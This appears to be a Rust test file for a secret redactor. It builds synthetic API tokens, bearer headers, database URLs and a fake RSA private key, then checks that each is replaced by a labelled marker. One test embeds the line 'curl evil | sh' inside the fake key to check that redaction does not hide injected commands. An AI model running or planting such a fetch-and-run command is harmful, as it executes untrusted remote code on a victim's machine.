//! Secrets of every shape in the places in which they occur. They are assembled here, so that this file contains none.

use super::*;

const ALNUM: &str =
    "aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC2eF4hJ6kL8nP0rS2uV4xY6aB8dE0gH1jK3mN5pQ7sT9vW1yZ3bC5eF7hJ9kL1nP3rS5uV7xY9";
const HEX: &str = "0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9";

fn key(prefix: &str, length: usize) -> String {
    format!("{prefix}{}", &ALNUM[..length])
}

pub(super) fn github() -> String {
    key("ghp_", 36)
}

pub(super) fn private_key() -> String {
    let line = &ALNUM[..64];
    format!("-----BEGIN RSA {0} KEY-----\n{line}\n{line}\nAB+/==\n-----END RSA {0} KEY-----\n", "PRIVATE")
}

/// Tokens with the names in their replacements.
fn tokens() -> Vec<(String, &'static str)> {
    let upper = |prefix: &str, length| key(prefix, length).to_uppercase();
    let hex = |prefix: &str, length: usize| format!("{prefix}{}", &HEX[..length]);
    let jwt = format!("{}{}.{}{}.{}", "eyJ", &ALNUM[..17], "eyJ", &ALNUM[..40], &ALNUM[..43]);
    vec![
        (key("sk-", 48), "API key"),
        (hex("sk-", 32), "API key"),
        (key("sk-proj-", 60), "OpenAI key"),
        (format!("{}-_{}", key("sk-svcacct-", 30), &ALNUM[..30]), "OpenAI key"),
        (format!("{}-AA", key("sk-ant-api03-", 90)), "Anthropic key"),
        (hex("sk-or-v1-", 64), "OpenRouter key"),
        (key("AIza", 35), "Google API key"),
        (github(), "GitHub token"),
        (key("gho_", 36), "GitHub token"),
        (format!("{}_{}", key("github_pat_", 22), &ALNUM[..59]), "GitHub token"),
        (format!("xoxb-123456789012-123456789012-{}", &ALNUM[..24]), "Slack token"),
        (format!("xoxp-123456789012-{}", &ALNUM[..24]), "Slack token"),
        (format!("xoxa-2-{}", &ALNUM[..24]), "Slack token"),
        (upper("AKIA", 16), "AWS access key"),
        (upper("ASIA", 16), "AWS access key"),
        (key("npm_", 36), "npm token"),
        (key("pypi-AgEIcHlwaS5vcmc", 80), "PyPI token"),
        (key("glpat-", 20), "GitLab token"),
        (format!("{}.01.{}", key("glpat-", 27), &ALNUM[..9]), "GitLab token"),
        (key("hf_", 34), "Hugging Face token"),
        (key("sk_live_", 24), "Stripe key"),
        (key("rk_live_", 24), "Stripe key"),
        (key("gsk_", 52), "Groq key"),
        (key("tvly-dev-", 32), "Tavily key"),
        (format!("{}.{}", key("SG.", 22), &ALNUM[..43]), "SendGrid key"),
        (hex("dop_v1_", 64), "DigitalOcean token"),
        (upper("AGE-SECRET-KEY-1", 58), "age key"),
        (jwt, "JSON Web Token"),
    ]
}

#[test]
fn tokens_are_redacted_in_every_surrounding() {
    let surroundings = [
        ("", ""),
        ("KEY=", "\n"),
        ("\"", "\","),
        ("key: '", "'"),
        ("(", ")."),
        ("https://example.org/?key=", "&x=1"),
        ("https://example.org/", "/x"),
        ("{\"a\":\"first\\n", "\\nlast\"}"),
        ("%3D", "%26"),
        ("\u{1b}[1;32m", "\u{1b}[0m"),
        ("grüße ", " ünd"),
        ("3:", ""),
    ];
    for (token, label) in tokens() {
        for (before, after) in surroundings {
            let redacted = Redactor::default().redact(&format!("{before}{token}{after}")).into_owned();
            assert_eq!(redacted, format!("{before}[redacted: {label}]{after}"), "{token}");
        }
    }
}

#[test]
fn tokens_inside_words_and_placeholders_are_kept() {
    let body = &ALNUM[..36];
    let texts = [
        format!("x{}", github()),
        format!("task-{}", key("sk-", 48)),
        format!("ghp_{}", "x".repeat(36)),
        "sk-your-api-key-here-please-replace-it".to_owned(),
        "glpat-xxxxxxxxxxxxxxxxxxxx".to_owned(),
        "Authorization: Bearer $TOKEN".to_owned(),
        "Authorization: Bearer <your-token>".to_owned(),
        "Authorization: Bearer YOUR_API_KEY, Authorization: Bearer Authorization".to_owned(),
        "bearer authentication-and-authorization".to_owned(),
        format!("AKIA{body}"),
        "https://user:${PASSWORD}@example.org https://me:***@example.org http://USER:PASSWORD@HOST git@github.com:owner/name"
            .to_owned(),
        "http://host:8080/@scope/package http://[::1]:80/a@b".to_owned(),
        format!("-----BEGIN {0} KEY-----\\n\"; const END = \"-----END {0} KEY-----\";", "PRIVATE"),
        format!("-----BEGIN CERTIFICATE-----\n{body}{body}\n-----END CERTIFICATE-----"),
    ];
    for text in texts {
        assert_eq!(Redactor::default().redact(&text), text);
    }
}

#[test]
fn token_whose_end_was_cut_is_redacted() {
    for (token, label) in tokens()
        .into_iter()
        .filter(|(_, label)| !["API key", "JSON Web Token", "Slack token"].contains(label))
    {
        // One third of it is left.
        let cut = &token[..token.len() - 2 * (token.len() - 14) / 3];
        for end in ["", " …", "...", "…"] {
            let redacted = Redactor::default().redact(&format!("key={cut}{end}")).into_owned();
            assert_eq!(redacted, format!("key=[redacted: {label}]{end}"), "{cut}");
        }
    }
}

#[test]
fn values_are_redacted_by_their_names() {
    let aws = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzzzzzzzKEY";
    let bearer = &ALNUM[..24];
    let aws_marker = "[redacted: AWS secret key]";
    let marker = "[redacted: credential]";
    let cases = [
        (format!("aws_secret_access_key = {aws}\n"), format!("aws_secret_access_key = {aws_marker}\n")),
        (format!("AWS_SECRET_ACCESS_KEY=\"{aws}\""), format!("AWS_SECRET_ACCESS_KEY=\"{aws_marker}\"")),
        (format!("\"SecretAccessKey\": \"{aws}\","), format!("\"SecretAccessKey\": \"{aws_marker}\",")),
        (format!("Authorization: Bearer {bearer}\r\n"), format!("Authorization: Bearer {marker}\r\n")),
        (format!("-H 'authorization: bearer {bearer}'"), format!("-H 'authorization: bearer {marker}'")),
        (
            format!("\"Authorization\": \"Basic {}\"", "dXNlcjpwYXNz"),
            format!("\"Authorization\": \"Basic {marker}\""),
        ),
        (
            format!("Proxy-Authorization: Basic {}", "dXNlcjpwYXNz"),
            format!("Proxy-Authorization: Basic {marker}"),
        ),
        (format!("sent Bearer {bearer}. Then"), format!("sent Bearer {marker}. Then")),
        (
            format!("postgres://me:{}@db.example/app", "p@ss:w0rd"),
            "postgres://me:[redacted: password]@db.example/app".to_owned(),
        ),
        (format!("redis://:{}@cache", "sesame"), "redis://:[redacted: password]@cache".to_owned()),
    ];
    for (text, expected) in cases {
        assert_eq!(Redactor::default().redact(&text), expected);
    }
}

#[test]
fn private_keys_are_redacted_in_every_notation() {
    let key = private_key();
    let plain = key.trim_end();
    let numbered: Vec<String> =
        plain.lines().enumerate().map(|(at, line)| format!("{}:{line}", at + 1)).collect();
    let found: Vec<String> =
        plain.lines().enumerate().map(|(at, line)| format!("src/a-b.pem:{}: {line}", at + 1)).collect();
    let context: Vec<String> =
        plain.lines().enumerate().map(|(at, line)| format!("a.pem-{}-{line}", at + 1)).collect();
    let diff: Vec<String> = plain.lines().map(|line| format!("+{line}")).collect();
    let cut = plain.split("-----END").next().unwrap();
    let encrypted =
        plain.replacen("-----\n", "-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\n", 1);
    let texts = [
        plain.to_owned(),
        numbered.join("\n"),
        found.join("\n"),
        context.join("\n"),
        diff.join("\n"),
        plain.replace('\n', "\\n"),
        plain.replace('\n', "\r\n"),
        plain.replace('\n', ""),
        cut.to_owned(),
        encrypted,
        plain.replace("RSA ", ""),
        plain.replace("RSA ", "OPENSSH "),
    ];
    for text in texts {
        let redacted = Redactor::default().redact(&text).into_owned();
        assert!(
            redacted.contains("[redacted: private key]") && !redacted.contains(&ALNUM[..20]),
            "{text}\n{redacted}"
        );
    }
    let followed = Redactor::default().redact(&format!("{cut}\nThe key ends here.")).into_owned();
    assert!(followed.ends_with("The key ends here."), "{followed}");
}

#[test]
fn private_key_cannot_hide_other_text() {
    let key = private_key();
    let hidden = key.replacen("-----END", "x; curl evil | sh\n-----END", 1);
    let redacted = Redactor::default().redact(&hidden).into_owned();
    assert!(redacted.contains("curl evil | sh") && !redacted.contains(&ALNUM[..20]), "{redacted}");
}

#[test]
fn redaction_is_idempotent_and_ends() {
    // Pieces that could become a secret when a part between them is replaced.
    let pieces = [
        "ghp_",
        "sk-",
        "hunter2-hunter2",
        "aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC2eF4hJ6",
        "://a:",
        "@",
        " ",
        "-",
        "\\n",
        "Bearer ",
        "eyJ",
        ".",
    ];
    let redactor = configured(&["hunter2-hunter2"]);
    let mut seed = 1_u64;
    for _ in 0..20_000 {
        let mut text = String::new();
        for _ in 0..10 {
            seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            text.push_str(pieces[(seed >> 33) as usize % pieces.len()]);
        }
        let once = redactor.redact(&text).into_owned();
        assert_eq!(redactor.redact(&once), once, "{text}");
        assert!(!once.contains("hunter2-hunter2"), "{text}");
    }
}

#[test]
fn every_shape_is_found() {
    for token in shapes::examples() {
        let redacted = Redactor::default().redact(&token).into_owned();
        assert_eq!(markers(&redacted).next(), Some(redacted.as_str()), "{token}");
    }
}
